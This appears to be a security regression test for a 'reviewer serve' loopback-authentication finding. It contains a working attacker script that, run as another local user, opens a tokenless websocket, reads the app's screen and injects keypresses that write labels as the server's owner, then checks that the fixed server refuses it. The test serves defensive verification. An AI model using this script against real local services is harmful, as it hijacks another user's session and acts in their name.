"""Finding 16 (finding 6 of the 'promises under attack' pass): ``reviewer serve`` on loopback
needed no token, so any local user (tried as uid 65534, with no ``Origin`` header) got the screen
over the websocket and could label, commit and re-score as the user who started it.

The attacker is a plain client (Python's standard library: HTTP requests and a websocket, no
token, no ``Origin``, a loopback ``Host``) run as another user (``setpriv`` to uid 65534 when
this runs as root; as the same user otherwise, which the server cannot tell apart).

Live: the server as it was answers that client: the page, the page script, and a websocket that
sends the app's screen; the attacker presses ``s`` and a label appears in the server user's labels
file. The server as it was is the code before the fix when ``REVIEWER_BEFORE_FIX_PYTHON`` names a
Python whose ``reviewer`` is that code; otherwise the attack's reference: textual-serve's own
server on the same app command, which the old guard let such a client through to (on loopback it
checked only the ``Host`` name and an ``Origin`` when one was sent).

Contained: the real ``reviewer serve`` of this tree, on loopback with no option, prints its
address with a token; the same client from the other user gets 403 on every path (page, script,
static file, download, icon, websocket) and writes no label; the token is in no command line of
the server or of its app processes (``/proc/PID/cmdline`` is readable by every user); and with
the printed token the websocket opens and the screen arrives (the refusal is the token's).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from attacks import Outcome

FINDING = 16
TITLE = "reviewer serve on loopback answered any local user with no token: the screen, and keys that label as the server's user"
OTHER_UID = 65534
LABEL_SECONDS = 60.0
"""How long the live part waits for the attacker's key press to become a label (a label written
ends the wait; the app answers in well under a second)."""
PATHS = ("/", "/static/js/textual.js", "/static/css/xterm.css", "/download/anything", "/favicon.ico")

ATTACKER = r'''
import base64, http.client, json, os, select, socket, struct, sys
host, port, token, press = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
query = ("&token=" + token) if token else ""
result = {"uid": os.getuid(), "paths": {}}
for path in sys.argv[5:]:
    conn = http.client.HTTPConnection(host, port, timeout=30)
    conn.request("GET", path + (("?token=" + token) if token else ""))  # a loopback Host, no Origin
    result["paths"][path] = conn.getresponse().status
    conn.close()
sock = socket.create_connection((host, port), timeout=60)
key = base64.b64encode(os.urandom(16)).decode()
sock.sendall((f"GET /ws?width=160&height=48{query} HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\n"
              f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n").encode())
head = b""
while b"\r\n\r\n" not in head:
    chunk = sock.recv(4096)
    if not chunk:
        break
    head += chunk
result["websocket"] = int(head.split(b" ", 2)[1]) if head.startswith(b"HTTP/1.1 ") else 0
buffer = head.split(b"\r\n\r\n", 1)[1] if b"\r\n\r\n" in head else b""

def send(opcode, payload):
    mask = os.urandom(4)
    sock.sendall(bytes([0x80 | opcode, 0x80 | len(payload)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload)))

def frames():
    global buffer
    while True:
        while True:
            if len(buffer) >= 2:
                size, at = buffer[1] & 0x7F, 2
                if size == 126 and len(buffer) >= 4:
                    size, at = struct.unpack(">H", buffer[2:4])[0], 4
                elif size == 127 and len(buffer) >= 10:
                    size, at = struct.unpack(">Q", buffer[2:10])[0], 10
                if size < 126 or at > 2:
                    if len(buffer) >= at + size:
                        opcode, payload, buffer = buffer[0] & 0x0F, buffer[at:at + size], buffer[at + size:]
                        yield opcode, payload
                        continue
            break
        readable, _, _ = select.select([sock, sys.stdin], [], [], 60)
        if sys.stdin in readable and not sys.stdin.buffer.read1(1):
            return
        if sock in readable:
            chunk = sock.recv(65536)
            if not chunk:
                return
            buffer += chunk

screen, told = b"", False
if result["websocket"] == 101:
    for opcode, payload in frames():
        if opcode == 9:
            send(10, payload)
        elif opcode == 8:
            break
        elif opcode == 2:
            screen += payload
            if not told and b"Brief" in screen and b"TestToRoman" in screen:
                result["screen_bytes"] = len(screen)
                if press:
                    send(1, json.dumps(["stdin", press]).encode())
                result["pressed"] = press
                print(json.dumps(result), flush=True)
                told = True
if not told:
    result["screen_bytes"] = len(screen)
    print(json.dumps(result), flush=True)
'''


def other_user() -> tuple[list[str], str]:
    """The command prefix and Python to run the attacker as uid 65534 (root only), else as this user."""
    candidates = [c for c in ("/usr/bin/python3", sys.executable) if Path(c).exists()]
    setpriv = shutil.which("setpriv")
    if os.geteuid() == 0 and setpriv:
        prefix = [setpriv, f"--reuid={OTHER_UID}", f"--regid={OTHER_UID}", "--clear-groups"]
        for python in candidates:
            probe = subprocess.run([*prefix, python, "-c", "import os; print(os.getuid())"], capture_output=True, text=True,
                                   timeout=30, check=False, cwd="/")
            if probe.stdout.strip() == str(OTHER_UID):
                return prefix, python
    return [], sys.executable


@contextmanager
def attacking(port: int, token: str = "", press: str = "s") -> Iterator[tuple[dict[str, Any], subprocess.Popen[str]]]:
    """Run the attacker against 127.0.0.1:port; its report once it has the screen (or was refused).
    The attacker keeps its websocket open until the block ends."""
    prefix, python = other_user()
    proc = subprocess.Popen([*prefix, python, "-c", ATTACKER, "127.0.0.1", str(port), token, press, *PATHS],
                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd="/")
    try:
        assert proc.stdout is not None
        line = proc.stdout.readline()
        report = json.loads(line) if line else {"error": proc.stderr.read() if proc.stderr else ""}
        yield report, proc
    finally:
        if proc.stdin:
            proc.stdin.close()
        try:
            proc.wait(timeout=30)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()


def labels_of(root: Path, name: str) -> str:
    """The text of ``name``'s labels files under root ("" when there is none)."""
    return "".join(p.read_text() for p in sorted([*root.glob(f"*/labels/{name}.toml"), *root.glob(f"*/labels/{name}/*.toml")]))


def wait_for_label(root: Path, name: str) -> str:
    """The labels ``name`` has once one appears (or "" after :data:`LABEL_SECONDS`)."""
    deadline = time.monotonic() + LABEL_SECONDS
    while not (text := labels_of(root, name)) and time.monotonic() < deadline:
        time.sleep(0.1)
    return text


def check(work: Path) -> Outcome:
    """The tokenless client from another user against the server as it was, then against this tree's."""
    sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "browser"))
    from browserkit import children, running, server_before_fix, serving
    from sessionkit import RunSpec, write_session

    home = {f"XDG_{kind}_HOME": str(work / kind.lower()) for kind in ("CONFIG", "DATA", "CACHE")}
    roots = {}
    for which in ("old", "new"):
        roots[which] = work / which / "sessions"
        write_session(roots[which], "s1", [RunSpec("r1")])

    argv, which_old = server_before_fix(roots["old"], "owner")
    with running(argv, timeout=60, env=home, cwd=work) as old:
        with attacking(old.port) as (old_report, _):
            old_label = wait_for_label(roots["old"], "owner") if old_report.get("websocket") == 101 else ""
    live = (old_report.get("websocket") == 101 and old_report.get("screen_bytes", 0) > 0
            and old_report["paths"].get("/") == 200 and 'verdict = "specification"' in old_label)

    with serving(roots["new"], "--reviewer", "owner", timeout=60, env=home) as new:
        token = new.token or ""
        with attacking(new.port) as (new_report, _):
            new_label = labels_of(roots["new"], "owner")
        with attacking(new.port, token, press="") as (owner_report, _):
            pids = [new.process.pid, *children(new.process.pid)]
            command_lines = [Path(f"/proc/{pid}/cmdline").read_bytes() for pid in pids]
    refused = (new_report.get("websocket") == 403 and set(new_report["paths"].values()) == {403}
               and new_report.get("screen_bytes", 0) == 0)
    contained = (refused and not new_label and len(token) >= 24 and "?token=" in new.url
                 and owner_report.get("websocket") == 101 and owner_report.get("screen_bytes", 0) > 0
                 and len(command_lines) >= 2 and not any(token.encode() in c for c in command_lines))
    uid = old_report.get("uid")
    detail = "\n".join([
        f"attacker uid {uid} ({'another user' if uid != os.getuid() else 'the same user: not root, setpriv unavailable'}), no token, no Origin",
        f"old server ({which_old}): paths {old_report.get('paths')}, websocket {old_report.get('websocket')}, "
        f"{old_report.get('screen_bytes', 0)} bytes of screen, label written as owner: {'yes' if old_label else 'no'}",
        f"this tree's reviewer serve: printed {'an address with a token' if '?token=' in new.url else new.url}; attacker got paths "
        f"{new_report.get('paths')}, websocket {new_report.get('websocket')}, label written: {'yes' if new_label else 'no'}",
        f"with the printed token: websocket {owner_report.get('websocket')}, {owner_report.get('screen_bytes', 0)} bytes of screen; "
        f"token in {sum(token.encode() in c for c in command_lines)} of {len(command_lines)} command lines",
    ])
    figures = {"attacker_uid": uid, "old_websocket": old_report.get("websocket"), "new_websocket": new_report.get("websocket"),
               "old_label_written": bool(old_label), "new_label_written": bool(new_label), "old_server": which_old.split(" (")[0]}
    return Outcome(contained, live, detail, figures)
